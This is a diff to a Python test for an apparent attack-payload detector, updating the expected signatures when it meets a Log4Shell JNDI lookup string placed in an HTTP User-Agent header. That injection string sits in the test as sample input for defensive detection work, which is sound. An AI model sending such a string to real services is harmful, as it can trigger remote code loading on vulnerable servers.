@@ -94,7 +94,7 @@ def test_another_port_is_told_by_the_log_patterns_and_convicts_nobody(judge: Pay
 def test_log_patterns_speak_where_the_traffic_patterns_say_nothing(judge: PayloadJudge) -> None:
     agent = judge.judge(make_sent(b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/inert}\r\n\r\n"))
     assert agent is not None
-    assert (agent.signs, agent.convicts) == (("kinsing/jndi-agent",), False)
+    assert (agent.signs, agent.convicts) == (("kinsing/jndi-agent", "log4shell-spreader/jndi-agent"), False)
     assert judge.judge(make_sent(b"GET /readme.eml HTTP/1.1\r\n")) is None, "a visitor asks for that"
     assert judge.judge(make_sent(HOST)) is None
 
